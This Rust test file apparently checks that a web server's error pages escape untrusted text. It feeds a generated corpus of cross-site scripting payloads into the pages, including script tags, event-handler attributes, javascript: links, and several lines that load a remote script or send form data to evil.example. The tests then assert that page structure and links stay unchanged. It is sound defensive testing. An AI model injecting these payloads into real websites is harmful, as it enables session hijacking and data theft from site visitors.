use super::*;

/// Ways to write script into a page, composed of what breaks out, what runs and how it is disguised.
fn corpus() -> Vec<String> {
    let breakouts =
        ["", "\"", "'", "\">", "'>", "-->", "</title>", "</td></table>", "`", "]]>", "\u{0}", "\u{202E}"];
    let payloads = [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        " onmouseover=alert(1) x=",
        " autofocus onfocus=alert(1) ",
        "javascript:alert(1)",
        "<style>@import '//evil.example'</style>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<form action=//evil.example><button>",
        "<math><mtext><script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;",
        "\u{FF1C}script\u{FF1E}",
        "<!--",
        "{{7*7}}",
    ];
    breakouts.iter().flat_map(|breakout| payloads.map(|payload| format!("{breakout}{payload}"))).collect()
}

/// Every tag of the page with its attributes' names, and none of its text.
fn skeleton(html: &str) -> Vec<String> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let tag = &rest[start..];
        let mut quoted = false;
        let mut bones = String::new();
        let mut length = tag.len();
        for (at, c) in tag.char_indices() {
            match c {
                '"' => quoted = !quoted,
                '>' if !quoted => {
                    length = at + 1;
                    break;
                }
                c if !quoted => bones.push(c),
                _ => {}
            }
        }
        tags.push(bones);
        rest = &tag[length..];
    }
    tags
}

#[test]
fn no_text_of_others_changes_the_structure_of_a_page() {
    let corpus = corpus();
    assert!(corpus.len() > 200);
    let pages: [fn(&str) -> String; 2] = [|text| refusal(StatusCode::NOT_FOUND, text), not_built];
    for page in pages {
        let plain = skeleton(&page("plain"));
        assert!(plain.len() > 15);
        for text in &corpus {
            let html = page(text);
            assert_eq!(skeleton(&html), plain, "{text}");
            for link in html.split("href=\"").skip(1) {
                assert!(link.starts_with('/') || link.starts_with("data:,\""), "{text}: {link}");
            }
            assert!(!html.contains('\u{202E}') && !html.contains('\u{0}'));
        }
    }
}

#[test]
fn no_page_needs_a_script_or_an_inline_style() {
    for html in [refusal(StatusCode::FORBIDDEN, "x"), not_built("x")] {
        assert!(!html.contains("<script") && !html.contains("style=") && !html.contains("<style"), "{html}");
        assert!(html.starts_with("<!doctype html><html lang=\"en\">"));
    }
}
